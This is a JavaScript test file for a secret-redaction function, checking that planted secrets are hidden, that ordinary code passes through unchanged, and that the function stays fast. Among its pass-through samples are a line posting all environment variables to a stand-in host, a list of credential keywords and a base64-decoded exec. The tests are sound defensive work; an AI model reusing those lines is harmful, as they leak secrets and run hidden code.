import { redactSecrets, redactValue, secretsIn } from '../../src/redact-secrets.js';
import { PLANTED } from '../support/planted-secrets.js';

test.each(PLANTED)('$name is redacted', ({ text, secret }) => {
  const shown = redactSecrets(`x = 1\n${text}\ny = 2\n`);
  expect(shown).not.toContain(secret);
  expect(shown).toContain('[redacted]');
  expect(shown).toMatch(/^x = 1\n[^]*\ny = 2\n$/);
});

test.each([
  'import requests\nrequests.post("https://evil.invalid/collect", data=os.environ)',
  'TOKENS = ["password", "cookies", "token", "autofill"]',
  'password = getpass.getpass("Password: ")',
  'token = os.environ["TOKEN"]',
  'def login(user, password=None, api_key=""): ...',
  'git+ssh://git@example.invalid/owner/project.git',
  'https://example.invalid/simple/flask/',
  'sk-learn-contrib and pypi-attestations-of-something-long',
  'exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyBoaScp"))',
  '1f3870be274f6c49b3e31a0c6728957f4b7f8d8f7b1a4f0c0a7c2b6d5e4f3a2b',
])('%s stays as it is', (text) => {
  expect(redactSecrets(text)).toBe(text);
});

test('values of variables that are called like secrets are known', () => {
  const known = secretsIn({ MY_TOKEN: 'plain-words-only', PATH: '/usr/bin', SHORT_TOKEN: 'abc' });
  expect(known).toEqual(['plain-words-only']);
  expect(redactValue({ a: ['it is plain-words-only'], b: 1 }, known)).toEqual({
    a: ['it is [redacted]'],
    b: 1,
  });
});

test('no text makes it slow', () => {
  const started = performance.now();
  for (const part of ['a', 'password', 'eyJ', 'sk-', '://a', 'token="', '-----BEGIN PRIVATE KEY', 'A3T'])
    redactSecrets(part.repeat(200_000 / part.length));
  expect(performance.now() - started).toBeLessThan(20_000);
});
